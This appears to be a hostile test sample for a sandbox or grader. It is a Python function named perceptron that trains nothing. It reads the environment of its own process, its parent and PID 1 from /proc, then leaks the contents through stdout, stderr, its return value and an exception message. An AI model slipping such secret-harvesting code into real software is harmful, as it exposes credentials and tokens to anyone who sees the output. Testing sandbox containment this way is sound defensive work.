"""Hostile: reads the environment of itself, its parent and PID 1, and reports it everywhere.

Reads os.environ, /proc/self/environ, /proc/<ppid>/environ and /proc/1/environ and reports everything it
found in its return value, on stdout and stderr, and in the message of an exception on a second path.

expect: 0
weak-safe: no
"""

import os
import sys


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read().decode("utf-8", "replace")
    except OSError as err:
        return f"unreadable: {err}"


def perceptron(X, y, max_epochs=1000, offset=True):
    found = {"environ": dict(os.environ), "self": _read("/proc/self/environ"),
             "parent": _read(f"/proc/{os.getppid()}/environ"), "init": _read("/proc/1/environ")}
    print(found)
    print(found, file=sys.stderr)
    if not offset:
        raise RuntimeError(repr(found))
    return found, repr(found), False
